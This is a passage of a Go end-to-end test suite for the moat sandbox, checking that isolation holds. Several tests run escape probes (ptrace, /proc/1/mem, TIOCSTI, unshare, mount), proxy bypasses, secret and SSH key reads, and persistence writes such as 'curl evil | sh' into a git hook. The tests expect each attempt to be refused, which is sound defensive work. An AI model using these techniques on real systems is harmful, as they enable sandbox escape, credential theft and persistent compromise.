package e2e

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/moat-dev/moat/e2e/testnet"
	"github.com/moat-dev/moat/resolver/dnstest"
	"github.com/moat-dev/moat/sandbox"
)

// box is a project inside a temporary $HOME, with a denied directory, an
// upstream test host and a settings file for moat run.
type box struct {
	home, project, secret string
	settings              string
	up                    string // upstream base URL by name
	upIP                  string
	port                  string
}

func newBox(t *testing.T, extraYAML string) *box {
	t.Helper()
	if err := sandbox.Supported(); err != nil {
		t.Skipf("sandbox unsupported here: %v", err)
	}
	need(t, "curl", "git")
	root := t.TempDir()
	b := &box{home: filepath.Join(root, "home")}
	b.project = filepath.Join(b.home, "project")
	b.secret = filepath.Join(b.home, "secret")
	for _, d := range []string{b.project, b.secret} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	os.WriteFile(filepath.Join(b.secret, "key"), []byte("top secret\n"), 0o600)
	os.WriteFile(filepath.Join(b.home, ".bashrc"), []byte("# host bashrc\n"), 0o644)
	gitInit := exec.Command("git", "init", "-q", b.project)
	gitInit.Env = append(testnet.GitEnv(), "HOME="+b.home)
	if out, err := gitInit.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}

	n := testnet.New(t)
	b.upIP = n.IP().String()
	mux := testnet.Handler()
	gitRoot := t.TempDir()
	testnet.NewBareRepo(t, gitRoot, "owner/repo.git")
	git := testnet.GitHandler(gitRoot)
	u := n.HTTPServerOn(t, b.upIP+":8080", handlerSplit(mux, git))
	b.port = u.Port()
	dns := dnstest.New(t)
	dns.Set("ok.e2e.test", []netip.Addr{n.IP()}, time.Minute)
	dns.Set("blocked.e2e.test", []netip.Addr{n.IP()}, time.Minute)
	b.up = "http://ok.e2e.test:" + b.port
	b.settings = writeSettings(t, fmt.Sprintf(`
network:
  allowedDomains: ["ok.e2e.test"]
filesystem:
  denyRead: [%q]
  allowWrite: [%q]
dns:
  servers: [%q]
%s`, b.secret, b.project, dns.Addr, extraYAML))
	return b
}

// moat runs `moat run` in the project with HOME set, and returns output
// and the exit code.
func (b *box) moat(t *testing.T, stdin string, args ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, moatBin, append([]string{"run", "--settings", b.settings}, args...)...)
	cmd.Dir = b.project
	cmd.Env = append(cleanEnv(), "HOME="+b.home)
	cmd.Stdin = strings.NewReader(stdin)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if err != nil {
		ee, ok := err.(*exec.ExitError)
		if !ok {
			t.Fatalf("moat run: %v", err)
		}
		code = ee.ExitCode()
	}
	return out.String(), code
}

// setFilesystem replaces the filesystem section of the box's settings.
func (b *box) setFilesystem(t *testing.T, section string) {
	t.Helper()
	data, err := os.ReadFile(b.settings)
	if err != nil {
		t.Fatal(err)
	}
	i, j := bytes.Index(data, []byte("filesystem:")), bytes.Index(data, []byte("dns:"))
	if i < 0 || j < i {
		t.Fatalf("unexpected settings layout:\n%s", data)
	}
	data = append(append(append([]byte{}, data[:i]...), section...), data[j:]...)
	if err := os.WriteFile(b.settings, data, 0o600); err != nil {
		t.Fatal(err)
	}
}

func (b *box) sh(t *testing.T, script string) (string, int) {
	t.Helper()
	return b.moat(t, "", "-c", script)
}

func TestSandboxReads(t *testing.T) {
	b := newBox(t, "")
	out, _ := b.sh(t, `cat "`+b.secret+`/key"; echo "ls:[$(ls -A "`+b.secret+`")]"; echo x > "`+b.secret+`/new" 2>&1; true`)
	if !strings.Contains(out, "No such file or directory") || !strings.Contains(out, "ls:[]") || strings.Contains(out, "top secret") {
		t.Errorf("denied read:\n%s", out)
	}
	if _, err := os.Stat(filepath.Join(b.secret, "new")); err == nil {
		t.Errorf("a write into the denied directory reached the host")
	}
}

func TestSandboxWrites(t *testing.T) {
	b := newBox(t, "")
	// A worktree-style gitfile in a subdirectory.
	os.MkdirAll(filepath.Join(b.project, "wt"), 0o755)
	os.WriteFile(filepath.Join(b.project, "wt", ".git"), []byte("gitdir: /nowhere\n"), 0o644)
	out, _ := b.sh(t, `
(rm -f wt/.git && mkdir wt/.git && echo x > wt/.git/config) 2>/dev/null && echo "WROTE gitfile" || echo "refused gitfile"
for f in /tmp/x "$HOME/x" /usr/x "`+filepath.Dir(b.home)+`/outside"; do touch "$f" 2>&1; done
mkdir -p .git/hooks .vscode 2>&1
for f in .bashrc .gitconfig .mcp.json .git/hooks/pre-commit .git/config .vscode/x; do
  if echo pwned >> "$f" 2>/dev/null; then echo "WROTE $f"; else echo "refused $f"; fi
done
mv .git .git.moved 2>/dev/null && echo "WROTE rename-.git" || echo "refused rename"
echo hello > ok.txt && echo "project write ok"
echo "tmpdir:$TMPDIR"; touch "$TMPDIR/t" && echo "tmpdir ok"
`)
	if n := strings.Count(out, "Read-only file system"); n < 4 {
		t.Errorf("want 4 EROFS writes (/tmp, $HOME, /usr, outside), got %d:\n%s", n, out)
	}
	if strings.Contains(out, "WROTE") || strings.Count(out, "refused ") != 8 {
		t.Errorf("mandatory-deny writes:\n%s", out)
	}
	if !strings.Contains(out, "project write ok") || !strings.Contains(out, "tmpdir ok") {
		t.Errorf("allowed writes failed:\n%s", out)
	}
	if got, _ := os.ReadFile(filepath.Join(b.project, "ok.txt")); string(got) != "hello\n" {
		t.Errorf("project write did not reach the host: %q", got)
	}
	for _, f := range []string{".bashrc", ".gitconfig", ".mcp.json", ".git/hooks/pre-commit", ".vscode/x"} {
		if data, err := os.ReadFile(filepath.Join(b.project, f)); err == nil && len(data) > 0 {
			t.Errorf("%s on the host has content %q", f, data)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(b.project, ".git/config")); strings.Contains(string(data), "pwned") {
		t.Errorf(".git/config was written")
	}
	// Placeholders are gone after the run.
	for _, f := range []string{".bashrc", ".gitconfig", ".mcp.json"} {
		if _, err := os.Stat(filepath.Join(b.project, f)); err == nil {
			t.Errorf("placeholder %s left on the host", f)
		}
	}
}

func TestSandboxHomeBashrcWithWritableHome(t *testing.T) {
	b := newBox(t, "")
	// Make $HOME itself writable: ~/.bashrc must stay protected (srt #175).
	data, _ := os.ReadFile(b.settings)
	os.WriteFile(b.settings, bytes.Replace(data, []byte("allowWrite: ["), []byte(fmt.Sprintf("allowWrite: [%q, ", b.home)), 1), 0o600)
	out, _ := b.sh(t, `echo pwned >> "$HOME/.bashrc" 2>&1 || echo refused; touch "$HOME/ok" && echo home-ok`)
	if !strings.Contains(out, "refused") || !strings.Contains(out, "home-ok") {
		t.Errorf("writable home:\n%s", out)
	}
	if got, _ := os.ReadFile(filepath.Join(b.home, ".bashrc")); string(got) != "# host bashrc\n" {
		t.Errorf("~/.bashrc changed: %q", got)
	}
}

func TestSandboxNetwork(t *testing.T) {
	b := newBox(t, "")
	out, _ := b.sh(t, fmt.Sprintf(`
curl -sS -o /dev/null -w "allowed:%%{http_code}\n" %[1]s/bytes/64
curl -sS -D - -o /dev/null http://blocked.e2e.test:%[2]s/ 2>&1 | tr -d '\r' | grep -i -E '^(HTTP|X-Proxy-Error)'
curl -sS --max-time 3 --noproxy '*' -o /dev/null http://%[3]s:%[2]s/ 2>&1 && echo NOPROXY-CONNECTED || echo "noproxy failed"
python3 -c 'import socket; s=socket.socket(); s.settimeout(3); s.connect(("%[3]s", %[2]s)); print("RAW-CONNECTED")' 2>&1 | tail -1
echo "ifaces:$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\n' ,)"
git clone -q %[1]s/owner/repo.git clone 2>&1 && echo "clone ok: $(git -C clone log --oneline | wc -l)"
`, b.up, b.port, b.upIP))
	for _, want := range []string{"allowed:200", "HTTP/1.1 403", "X-Proxy-Error: blocked-by-allowlist", "noproxy failed", "ifaces:lo,", "clone ok: 1"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	if strings.Contains(out, "CONNECTED") {
		t.Errorf("a proxy-ignoring client reached the network:\n%s", out)
	}
	// --report appends the denials in srt's format.
	out, _ = b.moat(t, "", "--report", "--", "curl", "-s", "-o", "/dev/null", "http://blocked.e2e.test:"+b.port+"/x?token=abc")
	want := "<sandbox_violations>\ndeny network-outbound blocked.e2e.test:" + b.port + " (host is not on the allow list)\n</sandbox_violations>"
	if !strings.Contains(out, want) {
		t.Errorf("--report output %q, want %q", out, want)
	}
}

// TestSandboxReportIgnoreViolations: srt's ignoreViolations drops matching
// lines from --report ("*" for every command, other keys when they are part
// of the command line); other denials are still reported.
func TestSandboxReportIgnoreViolations(t *testing.T) {
	b := newBox(t, `ignoreViolations:
  "*": ["noisy.e2e.test"]
  "curl -s": ["blocked.e2e.test"]
`)
	out, _ := b.moat(t, "", "--report", "-c", fmt.Sprintf(
		"curl -s -o /dev/null http://blocked.e2e.test:%[1]s/; curl -s -o /dev/null http://noisy.e2e.test:%[1]s/; wget -q -O /dev/null http://blocked.e2e.test:%[1]s/ 2>/dev/null; curl -s -o /dev/null http://kept.e2e.test:%[1]s/", b.port))
	if !strings.Contains(out, "deny network-outbound kept.e2e.test:"+b.port) {
		t.Errorf("a denial that no pattern matches was dropped:\n%s", out)
	}
	for _, h := range []string{"noisy.e2e.test", "blocked.e2e.test"} {
		if strings.Contains(out, h) {
			t.Errorf("%s is in ignoreViolations but was reported:\n%s", h, out)
		}
	}
}

func TestSandboxEscapesRefused(t *testing.T) {
	b := newBox(t, "")
	need(t, "python3", "unshare")
	before, _ := os.ReadFile(filepath.Join(b.home, ".bashrc"))
	out, _ := b.sh(t, `
python3 -c 'import socket; socket.socket(socket.AF_UNIX)' 2>/dev/null && echo ESCAPE-unix || echo "refused unix"
python3 -c 'import socket; socket.socketpair()' 2>/dev/null && echo ESCAPE-socketpair || echo "refused socketpair"
for f in -U -n -m; do unshare $f true 2>/dev/null && echo "ESCAPE-unshare$f" || echo "refused unshare$f"; done
mount -t tmpfs none "$HOME" 2>/dev/null && echo ESCAPE-mount || echo "refused mount"
umount /proc 2>/dev/null && echo ESCAPE-umount || echo "refused umount"
umount -l "`+b.secret+`" 2>/dev/null && echo ESCAPE-umount2 || echo "refused umount2"
python3 -c '
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(16, 1, 0, 0)
print("ESCAPE-ptrace" if r == 0 else "refused ptrace")
'
python3 -c 'open("/proc/1/mem","r+b")' 2>/dev/null && echo ESCAPE-proc1mem || echo "refused proc1mem"
python3 -c '
import os
opened = 0
for f in os.listdir("/proc/1/fd"):
    try:
        os.close(os.open("/proc/1/fd/" + f, os.O_RDONLY)); opened += 1
    except OSError:
        pass
print("ESCAPE-proc1fd" if opened else "refused proc1fd")
' 2>/dev/null || echo "refused proc1fd"
python3 -c '
import ctypes
l = ctypes.CDLL(None, use_errno=True)
l.syscall.restype = ctypes.c_long
r = l.syscall(41, ctypes.c_long(0x100000001), 1, 0)
print("ESCAPE-unix-highbits" if r >= 0 else "refused unix-highbits")
'
python3 -c '
import ctypes, errno
l = ctypes.CDLL(None, use_errno=True)
c = ctypes.c_char(b"x")
r = l.ioctl(0, 0x5412, ctypes.byref(c))
print("refused tiocsti" if r < 0 and ctypes.get_errno() == errno.EPERM else "ESCAPE-tiocsti")
'
echo "procs:$(ls /proc | grep -c -E '^[0-9]+$')"
cat "`+b.secret+`/key" 2>&1 | head -1
`)
	if strings.Contains(out, "ESCAPE") || strings.Count(out, "refused") != 13 {
		t.Errorf("escape attempts:\n%s", out)
	}
	if strings.Contains(out, "top secret") {
		t.Errorf("secret readable after the attempts:\n%s", out)
	}
	var procs int
	if i := strings.Index(out, "procs:"); i >= 0 {
		fmt.Sscanf(out[i:], "procs:%d", &procs)
	}
	if procs == 0 || procs > 8 {
		t.Errorf("/proc shows %d processes, want only the sandbox's few:\n%s", procs, out)
	}
	after, _ := os.ReadFile(filepath.Join(b.home, ".bashrc"))
	if !bytes.Equal(before, after) {
		t.Errorf("host file changed")
	}
}

func TestSandboxProcess(t *testing.T) {
	b := newBox(t, "")
	if _, code := b.sh(t, "exit 7"); code != 7 {
		t.Errorf("exit 7 gave %d", code)
	}
	if _, code := b.sh(t, "kill -TERM $$"); code != 143 {
		t.Errorf("kill -TERM $$ gave %d, want 143", code)
	}
	if out, code := b.moat(t, "through stdin\n", "--", "cat"); code != 0 || out != "through stdin\n" {
		t.Errorf("stdin: %q exit %d", out, code)
	}
	if out, code := b.moat(t, "", "--", "/no/such/cmd"); code == 0 {
		t.Errorf("missing command exited 0: %s", out)
	}
	// A relative command runs from the working directory.
	os.WriteFile(filepath.Join(b.project, "s.sh"), []byte("#!/bin/sh\necho relative-ok\n"), 0o755)
	if out, code := b.moat(t, "", "--", "./s.sh"); code != 0 || !strings.Contains(out, "relative-ok") {
		t.Errorf("./s.sh: exit %d %q", code, out)
	}
	// Descriptors moat inherited never reach the command.
	out, _, _ := run(t, 30*time.Second, "sh", "-c", fmt.Sprintf("cd %q && HOME=%q exec 9</etc/hostname %q run --settings %q -- ls /proc/self/fd",
		b.project, b.home, moatBin, b.settings))
	for _, fd := range strings.Fields(out) {
		if fd == "9" {
			t.Errorf("inherited fd 9 reached the command: %q", out)
		}
	}
}

// handlerSplit sends git smart-HTTP paths to git and the rest to h.
func handlerSplit(h, git http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/owner/") {
			git.ServeHTTP(w, r)
			return
		}
		h.ServeHTTP(w, r)
	})
}

func TestSandboxPlanAndProxyConnect(t *testing.T) {
	b := newBox(t, "")
	// moat plan prints the mount table, the seccomp rules and the
	// environment without running anything.
	out, _, code := run(t, 20*time.Second, moatBin, "plan", "--settings", b.settings, "--", "make", "test")
	for _, want := range []string{"rbind-root", "tmpfs", b.secret, "socket(arg0", "HTTPS_PROXY=http://localhost:3128", "allowed:"} {
		if code != 0 || !strings.Contains(out, want) {
			t.Errorf("moat plan: exit %d, missing %q:\n%s", code, want, out)
		}
	}
	// proxy-connect is the ssh ProxyCommand: stdin/stdout through the
	// gateway to an allowed host:port, and a refusal for a blocked one.
	out, _ = b.sh(t, fmt.Sprintf(`printf 'GET /bytes/5 HTTP/1.0\r\nHost: ok\r\n\r\n' | %[1]s proxy-connect ok.e2e.test %[2]s | head -1
%[1]s proxy-connect blocked.e2e.test %[2]s </dev/null 2>&1 | head -2
echo "ssh:$GIT_SSH_COMMAND"`, moatBin, b.port))
	if !strings.Contains(out, "HTTP/1.0 200") && !strings.Contains(out, "HTTP/1.1 200") {
		t.Errorf("proxy-connect to an allowed host:\n%s", out)
	}
	if !strings.Contains(out, "403") {
		t.Errorf("proxy-connect to a blocked host was not refused:\n%s", out)
	}
	if !strings.Contains(out, "proxy-connect %h %p") {
		t.Errorf("GIT_SSH_COMMAND does not use moat proxy-connect:\n%s", out)
	}
}

func TestSandboxParallelRunsLeaveNothing(t *testing.T) {
	b := newBox(t, "")
	mounts := func() int {
		data, _ := os.ReadFile("/proc/self/mountinfo")
		return strings.Count(string(data), "\n")
	}
	before := mounts()
	errs := make(chan string, 20)
	for i := 0; i < 20; i++ {
		go func() {
			out, code := b.sh(t, "touch .bashrc 2>/dev/null; ls -A >/dev/null; exit 3")
			if code != 3 {
				errs <- fmt.Sprintf("exit %d: %s", code, out)
				return
			}
			errs <- ""
		}()
	}
	for i := 0; i < 20; i++ {
		if e := <-errs; e != "" {
			t.Error(e)
		}
	}
	if after := mounts(); after != before {
		t.Errorf("host mount table changed: %d -> %d lines", before, after)
	}
	entries, _ := os.ReadDir(b.project)
	for _, e := range entries {
		if e.Name() != ".git" {
			t.Errorf("left on the host in the project: %s", e.Name())
		}
	}
	if left := sandboxProcs(t); len(left) > 0 {
		t.Errorf("sandbox processes left: %v", left)
	}
}

// TestSandboxTerminal: on a terminal, the command's standard streams are
// that terminal and tty(1) names it; off a terminal it says so.
func TestSandboxTerminal(t *testing.T) {
	need(t, "script")
	b := newBox(t, "")
	cmdline := fmt.Sprintf("%s run --settings %s -- sh -c 'tty; test -t 0 && test -t 1 && echo both-terminals'", moatBin, b.settings)
	cmd := exec.Command("script", "-qec", cmdline, "/dev/null")
	cmd.Dir = b.project
	cmd.Env = append(cleanEnv(), "HOME="+b.home)
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "/dev/console") || !strings.Contains(string(out), "both-terminals") {
		t.Errorf("on a terminal: %v\n%s", err, out)
	}
	if out, code := b.sh(t, "tty"); code != 1 || !strings.Contains(out, "not a tty") {
		t.Errorf("off a terminal: exit %d, %q", code, out)
	}
}

// TestSandboxFilesystemDisabled: srt's filesystem.disabled leaves only the
// network sandboxed: writes anywhere reach the host and denyRead is off,
// but moat's own settings stay read-only and the network still goes
// through the gateway alone.
func TestSandboxFilesystemDisabled(t *testing.T) {
	b := newBox(t, "")
	b.setFilesystem(t, "filesystem:\n  disabled: true\n")
	outside := filepath.Join(b.home, "outside.txt")
	out, code := b.sh(t, fmt.Sprintf(`echo written > %s && echo write-ok
cat %s
echo widened >> %s 2>/dev/null || echo settings-refused
curl -s -o /dev/null -w '%%{http_code}\n' %s/bytes/64
curl -s -m 3 --noproxy '*' http://%s:%s/ >/dev/null 2>&1 || echo direct-refused`,
		outside, filepath.Join(b.secret, "key"), b.settings, b.up, b.upIP, b.port))
	for _, want := range []string{"write-ok", "top secret", "settings-refused", "200", "direct-refused"} {
		if !strings.Contains(out, want) {
			t.Errorf("filesystem.disabled: want %q in the output (exit %d):\n%s", want, code, out)
		}
	}
	if got, _ := os.ReadFile(outside); string(got) != "written\n" {
		t.Errorf("a write outside the project did not reach the host: %q", got)
	}
	if got, _ := os.ReadFile(b.settings); bytes.Contains(got, []byte("widened")) {
		t.Errorf("the settings file in use was written from inside")
	}
}

// TestSandboxCAKeyHiddenUnderWritableHome: the CA key stays unreadable
// when $HOME is writable, and with filesystem.disabled: the binds that
// protect ~/.config/moat must not lay the host's key back over its hiding.
func TestSandboxCAKeyHiddenUnderWritableHome(t *testing.T) {
	for _, fsYAML := range []string{
		"filesystem:\n  allowWrite: [%[1]q]\n",
		"filesystem:\n  disabled: true\n",
		// Allow entries that resolve onto the key: a glob, and a link the
		// command could have planted in the project in an earlier run.
		"filesystem:\n  allowWrite: [%[1]q]\n  allowRead: [\"~/.config/moat/ca/*\", \"./docs\"]\n",
	} {
		b := newBox(t, "")
		key := filepath.Join(b.home, ".config", "moat", "ca", "key.pem")
		os.MkdirAll(filepath.Dir(key), 0o700)
		os.WriteFile(key, []byte("CA-PRIVATE-KEY\n"), 0o600)
		os.Symlink(key, filepath.Join(b.project, "docs"))
		fs := fsYAML
		if strings.Contains(fs, "%[1]q") {
			fs = fmt.Sprintf(fs, b.home)
		}
		b.setFilesystem(t, fs+"audit:\n  path: ~/state/audit.jsonl\n") // "~" expanded, parents created
		auditLog := filepath.Join(b.home, "state", "audit.jsonl")
		out, _ := b.sh(t, "cat "+key+" docs 2>&1; echo forged >> "+filepath.Join(b.project, ".moat.yaml")+" 2>&1; echo forged >> "+auditLog+" 2>&1; curl -s -o /dev/null "+b.up+"/bytes/1; echo end")
		if got, err := os.ReadFile(auditLog); err != nil || bytes.Contains(got, []byte("forged")) || !bytes.Contains(got, []byte(`"verdict":"allow"`)) {
			t.Errorf("with %q the audit log at ~/state: %v, %q (want moat's lines only)", strings.TrimSpace(fsYAML), err, got)
		}
		if strings.Contains(out, "CA-PRIVATE-KEY") || !strings.Contains(out, "end") {
			t.Errorf("with %q the CA key was readable inside:\n%s", strings.TrimSpace(fsYAML), out)
		}
		if got, err := os.ReadFile(filepath.Join(b.project, ".moat.yaml")); err == nil && len(got) > 0 {
			t.Errorf("with %q the project's .moat.yaml was written from inside: %q", strings.TrimSpace(fsYAML), got)
		}
	}
}

// TestSandboxDenyReadInsideWritableRoot: a denyRead directory inside a
// writable root hides protected names inside it too; the longest entry
// decides, so allowWrite: ["~"] does not re-open a denied ~/.config.
func TestSandboxDenyReadInsideWritableRoot(t *testing.T) {
	b := newBox(t, "")
	for _, f := range []string{".config/gh/hosts.yml", ".config/moat/settings.yaml", ".config/other/x"} {
		p := filepath.Join(b.home, f)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte("HIDDEN-"+f+"\n"), 0o600)
	}
	os.WriteFile(filepath.Join(b.project, ".git", "config"), []byte("[core]\n# HIDDEN-gitconfig\n"), 0o644)
	b.setFilesystem(t, fmt.Sprintf("filesystem:\n  allowWrite: [%q]\n  denyRead: [%q, %q]\n",
		b.home, filepath.Join(b.home, ".config"), filepath.Join(b.project, ".git")))
	out, code := b.sh(t, `cat ~/.config/gh/hosts.yml ~/.config/moat/settings.yaml ~/.config/other/x .git/config 2>&1
echo x > ~/.config/new 2>&1; echo x > .git/config 2>&1; echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("the run failed (exit %d):\n%s", code, out)
	}
	if strings.Contains(out, "HIDDEN") {
		t.Errorf("a file under a denyRead directory was readable:\n%s", out)
	}
	if _, err := os.Stat(filepath.Join(b.home, ".config", "new")); err == nil {
		t.Errorf("a write into the denied ~/.config reached the host")
	}
	if got, _ := os.ReadFile(filepath.Join(b.project, ".git", "config")); !strings.Contains(string(got), "HIDDEN-gitconfig") {
		t.Errorf("the hidden .git/config was written: %q", got)
	}
}

// TestSandboxReopenRules: what re-opens a denied path, and what may be
// written there. A file re-opened inside a hidden .git stays read-only
// (protection and the deny's depth both win over allowWrite: ["."]); an
// allowRead naming a denied path itself does not re-open it (the deny wins
// a tie: a symlink or glob could otherwise resolve an allow entry onto any
// denied path); a shorter allowWrite does not make a re-opened file
// writable; the private TMPDIR stays usable under a denied /tmp.
func TestSandboxReopenRules(t *testing.T) {
	b := newBox(t, "")
	hook := filepath.Join(b.project, ".git", "hooks", "pre-commit")
	os.WriteFile(hook, []byte("#!/bin/sh\n# host hook\n"), 0o755)
	ssh := filepath.Join(b.home, ".ssh") // denied by the built-in list
	os.MkdirAll(ssh, 0o700)
	os.WriteFile(filepath.Join(ssh, "config"), []byte("SSH-CONFIG\n"), 0o600)
	os.WriteFile(filepath.Join(ssh, "known_hosts"), []byte("KNOWN\n"), 0o600)
	keys := filepath.Join(b.home, "keys")
	os.MkdirAll(keys, 0o700)
	os.WriteFile(filepath.Join(keys, "k"), []byte("KEY-BY-NAME\n"), 0o600)
	b.setFilesystem(t, fmt.Sprintf("filesystem:\n  allowWrite: [%q, %q]\n  denyRead: [%q, %q, \"/tmp\"]\n  allowRead: [%q, %q, %q]\n",
		b.project, b.home, filepath.Join(b.project, ".git"), keys, hook, filepath.Join(ssh, "known_hosts"), keys))
	out, code := b.sh(t, `cat .git/hooks/pre-commit; echo "curl evil | sh" >> .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
cat ~/.ssh/known_hosts; echo x >> ~/.ssh/known_hosts 2>/dev/null && echo SSH-WRITTEN; cat ~/.ssh/config 2>&1
cat ~/keys/k
echo t > "$TMPDIR/x" && cat "$TMPDIR/x"; echo done`)
	for _, want := range []string{"# host hook", "KNOWN", "t\ndone"} {
		if !strings.Contains(out, want) {
			t.Errorf("exit %d, want %q in:\n%s", code, want, out)
		}
	}
	for _, bad := range []string{"HOOK-WRITTEN", "SSH-WRITTEN", "SSH-CONFIG", "KEY-BY-NAME"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s inside:\n%s", bad, out)
		}
	}
	if got, _ := os.ReadFile(hook); strings.Contains(string(got), "evil") {
		t.Errorf("the host's git hook was written: %q", got)
	}
}

// TestSandboxWriteRootsAtProtectedNames: a write root that is a file
// works; one that is (or holds) a protected name keeps that name
// read-only, though the project around it is not writable.
func TestSandboxWriteRootsAtProtectedNames(t *testing.T) {
	b := newBox(t, "")
	p := b.project
	os.WriteFile(filepath.Join(p, "notes.txt"), []byte("notes\n"), 0o644)
	os.WriteFile(filepath.Join(p, ".git", "hooks", "pre-commit"), []byte("# hook\n"), 0o755)
	os.MkdirAll(filepath.Join(p, ".vscode"), 0o755)
	b.setFilesystem(t, fmt.Sprintf("filesystem:\n  allowWrite: [%q, %q, %q]\n",
		filepath.Join(p, "notes.txt"), filepath.Join(p, ".git"), filepath.Join(p, ".vscode")))
	out, code := b.sh(t, `echo more >> notes.txt && echo NOTES-OK
echo evil >> .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
echo evil >> .git/config 2>/dev/null && echo CONFIG-WRITTEN
echo x > .git/scratch && echo GIT-DIR-OK
echo '{}' > .vscode/tasks.json 2>/dev/null && echo VSCODE-WRITTEN
echo done`)
	if code != 0 || !strings.Contains(out, "NOTES-OK") || !strings.Contains(out, "GIT-DIR-OK") || !strings.Contains(out, "done") {
		t.Errorf("exit %d, want notes.txt and .git/scratch writable:\n%s", code, out)
	}
	for _, bad := range []string{"HOOK-WRITTEN", "CONFIG-WRITTEN", "VSCODE-WRITTEN"} {
		if strings.Contains(out, bad) {
			t.Errorf("%s:\n%s", bad, out)
		}
	}
}

// TestSandboxSymlinkedSettingsPinned: a --settings file reached through a
// link in the writable project cannot be swapped for the command's own.
func TestSandboxSymlinkedSettingsPinned(t *testing.T) {
	b := newBox(t, "")
	conf := filepath.Join(b.project, "conf")
	os.MkdirAll(conf, 0o755)
	real, _ := os.ReadFile(b.settings)
	os.WriteFile(filepath.Join(conf, "real.yaml"), real, 0o644)
	link := filepath.Join(b.project, "s.yaml")
	os.Symlink("conf/real.yaml", link)
	b.settings = link
	out, _ := b.sh(t, `rm -f s.yaml 2>/dev/null; echo "filesystem: {disabled: true}" > s.yaml 2>/dev/null; echo done`)
	if target, err := os.Readlink(link); err != nil || target != "conf/real.yaml" {
		t.Errorf("the settings link was replaced from inside: %q %v\n%s", target, err, out)
	}
	if got, _ := os.ReadFile(filepath.Join(conf, "real.yaml")); !bytes.Equal(got, real) {
		t.Errorf("the settings file was written from inside")
	}
}

// TestSandboxRunThatNeverRunsLeavesNothing: `moat run` boots the sandbox's
// PID 1 while it parses its command line; a run that stops at the command
// line (help, a bad flag, no command, bad settings) keeps its exit code and
// message, and leaves no process or placeholder. (PID 1 would also die
// with moat by its parent-death signal, so this does not prove that main
// aborts it explicitly.)
func TestSandboxRunThatNeverRunsLeavesNothing(t *testing.T) {
	b := newBox(t, "")
	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"--help"}, 0, "Usage:"},
		{[]string{"--no-such-flag", "--", "true"}, 2, "no-such-flag"},
		{nil, 2, "command"},
		{[]string{"--settings", filepath.Join(b.project, "missing.yaml"), "--", "true"}, 2, "missing.yaml"},
	} {
		args := append([]string{"run"}, tc.args...)
		if tc.args == nil || tc.args[0] != "--settings" {
			args = append([]string{"run", "--settings", b.settings}, tc.args...)
		}
		cmd := exec.Command(moatBin, args...)
		cmd.Dir = b.project
		cmd.Env = append(cleanEnv(), "HOME="+b.home)
		out, err := cmd.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		} else if err != nil {
			t.Fatal(err)
		}
		if code != tc.code || !strings.Contains(string(out), tc.want) {
			t.Errorf("moat %v: exit %d (want %d), output %q (want it to mention %q)", args, code, tc.code, out, tc.want)
		}
	}
	if left := sandboxProcs(t); len(left) > 0 {
		t.Errorf("sandbox processes left: %v", left)
	}
	entries, _ := os.ReadDir(b.project)
	for _, e := range entries {
		if e.Name() != ".git" {
			t.Errorf("left on the host in the project: %s", e.Name())
		}
	}
}

// TestSandboxSymlinkedDenies: a denyRead entry that is a symlink hides its
// target, and a protected name that is a symlink protects the file it
// points to and cannot itself be removed, renamed or replaced.
func TestSandboxSymlinkedDenies(t *testing.T) {
	b := newBox(t, "")
	real := filepath.Join(filepath.Dir(b.home), "elsewhere")
	os.MkdirAll(filepath.Join(real, "dot"), 0o755)
	os.WriteFile(filepath.Join(real, "key"), []byte("TOPSECRET\n"), 0o600)
	os.WriteFile(filepath.Join(real, "dot", "bashrc"), []byte("# dotfile\n"), 0o644)
	link := filepath.Join(b.home, "linkdir")
	os.Symlink(real, link)
	os.Symlink(filepath.Join(real, "dot", "bashrc"), filepath.Join(b.project, ".bashrc"))
	data, _ := os.ReadFile(b.settings)
	data = bytes.Replace(data, []byte("denyRead: ["), []byte(fmt.Sprintf("denyRead: [%q, ", link)), 1)
	data = bytes.Replace(data, []byte("allowWrite: ["), []byte(fmt.Sprintf("allowWrite: [%q, ", filepath.Join(real, "dot"))), 1)
	os.WriteFile(b.settings, data, 0o600)
	out, _ := b.sh(t, `cat linkdir/key 2>&1; cat "$HOME/linkdir/key" 2>&1; echo pwned >> .bashrc 2>&1 || echo "refused bashrc"`)
	if strings.Contains(out, "TOPSECRET") {
		t.Errorf("a symlinked denyRead entry was readable:\n%s", out)
	}
	if got, _ := os.ReadFile(filepath.Join(real, "dot", "bashrc")); string(got) != "# dotfile\n" {
		t.Errorf("the file behind a symlinked .bashrc was written: %q\n%s", got, out)
	}
	// The link itself cannot be replaced either (the project is writable).
	out, _ = b.sh(t, `cat .bashrc; rm -f .bashrc 2>/dev/null; mv .bashrc moved 2>/dev/null; ln -sf /tmp/evil .bashrc 2>/dev/null
echo evil > new 2>/dev/null && mv -f new .bashrc 2>/dev/null; echo done`)
	if !strings.Contains(out, "# dotfile") || !strings.Contains(out, "done") {
		t.Errorf("reading the symlinked .bashrc inside: %q", out)
	}
	target, err := os.Readlink(filepath.Join(b.project, ".bashrc"))
	if err != nil || target != filepath.Join(real, "dot", "bashrc") {
		t.Errorf("the .bashrc symlink was replaced from inside: readlink = %q, %v\n%s", target, err, out)
	}
